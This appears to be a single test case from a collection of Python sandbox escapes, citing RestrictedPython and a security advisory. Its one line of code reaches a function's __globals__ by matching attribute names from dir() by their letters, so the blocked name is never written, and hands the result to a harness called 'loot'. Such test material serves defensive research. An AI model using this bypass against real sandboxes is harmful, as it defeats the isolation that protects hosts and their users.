# aim: walk from an object to its globals by names found in dir
# mechanism: names compared by their letters, so that none is written
# source: RestrictedPython, GHSA-xjw2-6jm9-rf67 and those before it
# language: builtins
# reason: a computed name obeys the same table as one that is written
# jail: process
# plain: loot
import json
loot([getattr(json.dumps, name) for name in dir(json.dumps) if name.strip("_") == "globals"][0])
